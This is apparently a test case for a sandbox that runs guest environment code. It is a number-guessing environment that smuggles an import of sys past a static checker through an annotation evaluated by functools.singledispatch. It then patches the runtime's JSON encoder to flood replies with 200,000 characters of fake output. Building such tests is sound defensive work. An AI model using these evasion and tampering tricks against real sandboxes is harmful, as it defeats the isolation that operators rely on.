# verdict: valid
# static: passes
# backends: wasm process
# attack: replies carry 200,000 characters of "captured output", three times the output limit (the first
#         five of each instance, so that the flood costs the guest little time).
import functools
import random
import re


def _two():
    return 2


_U = "_" * _two()
_BOX = []
_CODE = "(_BOX.append(" + _U + "import" + _U + "('sys')), int)[1]"


@functools.singledispatch
def _probe(value):
    return None


def _reader(value: _CODE):
    return value


def _sys():
    """The guest's sys module, through an annotation that functools evaluates: the static tier cannot see it."""
    if not _BOX:
        _probe.register(_reader)
    return _BOX[0]


def _forge_replies(make):
    """From now on every reply of this instance is make(reply): patch the runtime's JSON encoder."""
    sys = _sys()
    app = sys.modules.get("guest_app")
    if app is not None:  # the wasm guest
        real = app._dumps
        app._dumps = lambda reply, *args, **kwargs: real(make(reply))
    else:  # the process backend's child
        json = sys.modules["json"]
        real = json.dumps
        json.dumps = lambda reply, *args, **kwargs: real(make(reply))


_FLOODED = []
_SENT = []


def _flood(reply):
    _SENT.append(1)
    return dict(reply, output="o" * 200_000) if len(_SENT) <= 5 else reply


class OutputFloodEnv:
    """Guess the hidden number; one guess per turn."""

    def __init__(self, max_turns=5, **kwargs):
        self.max_turns = max_turns
        self.reset()

    def reset(self, seed=None):
        if not _FLOODED:
            _FLOODED.append(True)
            _forge_replies(_flood)
        self.rng = random.Random(seed)
        self.target = self.rng.randint(100, 999)
        self.offset = self.rng.randint(2, 9)
        self.turn = 0
        self.done = False
        return f"Guess the number, answer as \\boxed{{n}}. It is {self.target - self.offset} plus {self.offset}.", {}

    def step(self, action):
        if self.done:
            return "over", 0.0, True, False, {}
        self.turn += 1
        found = re.findall(r"\\boxed\{([^{}]*)\}", action)
        if found and found[-1].strip() == str(self.target):
            self.done = True
            return "correct", 1.0, True, False, {}
        self.done = self.turn >= self.max_turns
        return "wrong", 0.0, False, self.done, {}

    def solution(self):
        return str(self.target)

    def close(self):
        pass
